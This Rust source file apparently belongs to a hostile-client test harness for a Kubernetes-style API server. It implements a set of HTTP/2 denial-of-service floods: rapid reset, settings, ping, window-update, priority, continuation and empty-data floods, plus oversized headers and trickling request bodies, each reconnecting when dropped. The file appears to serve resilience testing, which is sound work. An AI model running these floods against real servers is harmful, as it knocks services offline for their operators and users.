//! Floods of HTTP/2 frames. A connection that the server ends is opened again.

use futures::FutureExt;
use kubefan_common::proto::WATCH_PATH;

use crate::hostile::{
    attack::Attack,
    context::Context,
    frames::{END_HEADERS, END_STREAM, Frames, fields, flood, grpc_fields},
};

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new("rapid-reset", |context| rapid_reset(context).boxed()),
    Attack::new("settings-flood", |context| settings_flood(context).boxed()),
    Attack::new("ping-flood", |context| ping_flood(context).boxed()),
    Attack::new("window-flood", |context| window_flood(context).boxed()),
    Attack::new("priority-flood", |context| priority_flood(context).boxed()),
    Attack::new("empty-data-flood", |context| empty_data_flood(context).boxed()),
    Attack::new("continuation-flood", |context| continuation_flood(context).boxed()),
    Attack::new("huge-http2-headers", |context| huge_http2_headers(context).boxed()),
    Attack::new("unfinished-http2-bodies", |context| unfinished_http2_bodies(context).boxed()),
];

/// Connections of a flood.
const CONNECTIONS: u64 = 10;
/// Writes of each connection per second.
const WRITES: u64 = 100;
/// Frames of each write: together 20,000 frames a second.
const FRAMES: u32 = 20;
const PODS: &str = "/api/v1/pods?watch=1";
const WINDOW_BYTES: u32 = 65_535;

/// Runs a flood on all connections. `frames` adds the frames of the write of this number.
async fn floods(context: Context, per_second: u64, frames: fn(&mut Frames, u32)) {
    context
        .run(CONNECTIONS, CONNECTIONS * 10, move |context, number| async move {
            // The end of the attack drops this.
            while let Some(stream) = context.connect(number).await {
                let write = |write: u64| {
                    let mut out = if write == 0 { Frames::preface(WINDOW_BYTES) } else { Frames::default() };
                    frames(&mut out, write as u32);
                    out
                };
                flood(&context, stream, per_second, write).await;
            }
        })
        .await;
}

/// The identifier of a stream of the client.
fn stream(write: u32, number: u32) -> u32 {
    (write * FRAMES + number) * 2 + 1
}

async fn rapid_reset(context: Context) {
    let frames = |out: &mut Frames, write| {
        for number in 0..FRAMES {
            out.headers(stream(write, number), END_HEADERS | END_STREAM, &fields("GET", PODS));
            out.reset(stream(write, number));
        }
    };
    floods(context, WRITES, frames).await;
}

async fn settings_flood(context: Context) {
    floods(context, WRITES, |out, write| {
        for number in 0..FRAMES {
            out.settings(WINDOW_BYTES - (write + number) % 7);
        }
    })
    .await;
}

async fn ping_flood(context: Context) {
    floods(context, WRITES, |out, _| {
        for _ in 0..FRAMES {
            out.ping();
        }
    })
    .await;
}

async fn window_flood(context: Context) {
    floods(context, WRITES, |out, _| {
        for _ in 0..FRAMES {
            out.window_update(0, 1);
        }
    })
    .await;
}

async fn priority_flood(context: Context) {
    floods(context, WRITES, |out, write| {
        for number in 0..FRAMES {
            out.priority(stream(write, number));
        }
    })
    .await;
}

async fn empty_data_flood(context: Context) {
    let frames = |out: &mut Frames, write| {
        if write == 0 {
            out.headers(1, END_HEADERS, &grpc_fields(WATCH_PATH));
        }
        for _ in 0..FRAMES {
            out.data(1, 0, &[]);
        }
    };
    floods(context, WRITES, frames).await;
}

async fn continuation_flood(context: Context) {
    let frames = |out: &mut Frames, write| {
        if write == 0 {
            out.headers(1, 0, &fields("GET", PODS));
        }
        for _ in 0..FRAMES {
            out.continuation(1, &[("x-more", &"x".repeat(1000))]);
        }
    };
    floods(context, WRITES, frames).await;
}

async fn huge_http2_headers(context: Context) {
    let frames = |out: &mut Frames, write| {
        let value = "x".repeat(15 << 10);
        let mut head = fields("GET", PODS);
        head.push(("x-huge", &value));
        out.headers(write * 2 + 1, END_HEADERS | END_STREAM, &head);
    };
    floods(context, 20, frames).await;
}

/// Requests whose bodies trickle, on ever more streams.
async fn unfinished_http2_bodies(context: Context) {
    let frames = |out: &mut Frames, write| {
        out.headers(write * 2 + 1, END_HEADERS, &fields("POST", "/api/v1/namespaces/team-0/pods"));
        out.data(write * 2 + 1, 0, b"{");
    };
    floods(context, 50, frames).await;
}
